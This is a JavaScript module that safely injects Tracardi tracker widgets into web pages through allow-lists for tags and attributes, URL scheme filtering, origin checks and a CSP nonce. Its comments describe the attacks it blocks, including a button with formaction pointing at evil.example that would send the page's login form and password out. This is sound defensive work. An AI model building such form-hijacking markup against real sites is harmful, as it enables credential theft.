// Injects the `ux` items of a /track response ({tag, props, content}: Tracardi's workflow widgets)
// into the page. Lives in the lazily loaded extras chunk: most pages never get a widget.
// Rules (issue 11): DOM construction only (never innerHTML); a tag allow-list (no base, meta,
// form, object, style, link, ...); an attribute allow-list per tag (below); no javascript:/data:
// URLs; a script or iframe loads only from the API's origin (Tracardi serves its widgets under
// /uix/) or an origin the site lists in settings.uxOrigins; inline script (Tracardi's "Javascript
// tag" widget) runs only with the CSP nonce the site gives in settings.uxNonce; an identical item
// at most once per page (every batch answer repeats the workflow's widgets).

const TAGS = new Set(['div', 'span', 'p', 'a', 'img', 'button', 'section', 'aside', 'header',
  'footer', 'nav', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'strong', 'em', 'b',
  'i', 'small', 'br', 'hr', 'script', 'iframe']);
const ATTR = /^[a-zA-Z_:][-a-zA-Z0-9_:.]*$/;

// Attributes, per tag (issue 22). A deny-list let a widget <button form="login"
// formaction="https://evil.example/"> submit the page's own login form, typed password included,
// to any origin, and <a ping>/<img srcset> report to any origin: every attribute not named here
// is skipped (with a warning). Tracardi's UIX plugins send `class` and `data-*` on a <div> and
// `src` (plus `id`, Zendesk's) on a <script>; the widget's own script builds and styles the rest.
// Not `style`: no Tracardi widget sends it, and inline CSS lets a widget cover the page with
// its own look-alike of the site (a fixed overlay over the page's real controls) or fetch any
// URL (url()). Not `name` (an <img name="cookie"> or <iframe name> shadows document's own
// properties), `is`, `slot`, `autofocus`, `contenteditable`, `popovertarget`/`command*` (they
// act on the page's own elements).
const GLOBAL = new Set(['id', 'class', 'title', 'lang', 'dir', 'role', 'hidden', 'tabindex']);
const OWN = {
  a: ['href', 'target', 'rel'],
  img: ['src', 'alt', 'width', 'height', 'loading', 'decoding'],
  // `type` only as "button" (and always set so, build() below): a button's default type is
  // submit, and a submit/reset button submits or resets a form of the page it is in.
  button: ['type', 'name', 'value', 'disabled'],
  iframe: ['src', 'width', 'height', 'loading', 'referrerpolicy', 'allowfullscreen', 'sandbox'],
};
// A script's attributes are its loading ones only (no global ones but `id`), as before.
const SCRIPT_ATTRS = new Set(['src', 'async', 'defer', 'type', 'crossorigin', 'integrity',
  'referrerpolicy', 'nomodule', 'id']);
// Attributes whose value is a URL the browser fetches or navigates to.
const URL_ATTRS = new Set(['href', 'src']);

function safeUrl(value) {
  // Browsers ignore leading whitespace/control chars and tabs/newlines inside a scheme.
  const v = value.replace(/^[\u0000-\u0020]+/, '').replace(/[\t\n\r]/g, '').toLowerCase();
  return !/^(?:javascript|vbscript|data):/.test(v);
}

// name: as the answer spelled it (HTML attribute names are case-insensitive).
export function attributeAllowed(tag, name, value) {
  if (!ATTR.test(name)) return false;
  const n = name.toLowerCase();
  const listed = tag === 'script' ? SCRIPT_ATTRS.has(n)
    : GLOBAL.has(n) || OWN[tag]?.includes(n) || /^aria-./.test(n);
  if (!listed && !/^data-./.test(n)) return false;
  if (tag === 'button' && n === 'type' && value.toLowerCase() !== 'button') return false;
  return !URL_ATTRS.has(n) || safeUrl(value);
}

function originOf(url, base) {
  try {
    const u = new URL(url, base);
    return u.protocol === 'https:' || u.protocol === 'http:' ? u.origin : null;
  } catch { return null; }
}

// trackerOptions: options.tracker (url.api, settings.uxOrigins, settings.uxNonce).
export function createUxInjector(env, trackerOptions) {
  const t = trackerOptions || {};
  const settings = t.settings || {};
  const doc = env.document;
  const base = doc?.baseURI || env.location?.href || undefined;
  const origins = new Set();
  const api = originOf(t.url?.api, base);
  if (api) origins.add(api);
  if (Array.isArray(settings.uxOrigins)) {
    for (const o of settings.uxOrigins) {
      const origin = typeof o === 'string' && originOf(o, base);
      if (origin) origins.add(origin);
    }
  }
  const nonce = typeof settings.uxNonce === 'string' && settings.uxNonce ? settings.uxNonce : null;
  const seen = new Set();
  let inlineWarned = false;
  const warn = (msg) => env.console.warn('[Tracker] UX ' + msg);

  function build(item) {
    const tag = typeof item.tag === 'string' ? item.tag.toLowerCase() : '';
    if (!TAGS.has(tag)) return warn(`item <${String(item.tag)}> skipped: tag not allowed`);
    const el = doc.createElement(tag);
    const props = item.props && typeof item.props === 'object' ? item.props : {};
    let src = null;
    for (const name of Object.keys(props)) {
      const raw = props[name];
      if (raw === null || raw === undefined || typeof raw === 'object') continue;
      const value = String(raw);
      if (!attributeAllowed(tag, name, value)) {
        warn(`attribute "${name}" on <${tag}> skipped`);
        continue;
      }
      const n = name.toLowerCase();
      if (n === 'src' && (tag === 'script' || tag === 'iframe')) {
        const origin = originOf(value, base);
        if (!origin || !origins.has(origin)) {
          return warn(`<${tag}> from ${origin || value} skipped: only the API origin or ` +
            'options.tracker.settings.uxOrigins may serve widgets');
        }
        src = value;
      }
      el.setAttribute(n, value);
    }
    if (tag === 'button') el.setAttribute('type', 'button');
    const content = typeof item.content === 'string' ? item.content : '';
    if (tag === 'script' && !src) {
      if (!content) return null;
      // Tracardi's "Javascript tag" widget: code from a response. It runs only where the site's
      // CSP already lets that nonce run code, i.e. the site opted in.
      if (!nonce) {
        if (!inlineWarned) {
          inlineWarned = true;
          warn('"Javascript tag" widget (inline <script>) skipped: set ' +
            'options.tracker.settings.uxNonce to your CSP nonce to let it run');
        }
        return null;
      }
      el.setAttribute('nonce', nonce);
    }
    if (content && !(tag === 'script' && src)) el.textContent = content;
    return el;
  }

  // Returns how many items were added.
  return function injectUx(items) {
    if (!doc || !Array.isArray(items)) return 0;
    const parent = doc.body || doc.documentElement;
    if (!parent) return 0;
    let added = 0;
    for (const item of items) {
      try {
        if (!item || typeof item !== 'object') continue;
        const key = JSON.stringify(item);
        if (seen.has(key)) continue;  // answered again by a later batch: already on the page
        seen.add(key);
        const el = build(item);
        if (!el) continue;
        parent.appendChild(el);
        added++;
      } catch (e) {
        warn('item could not be added: ' + e?.message);
      }
    }
    return added;
  };
}
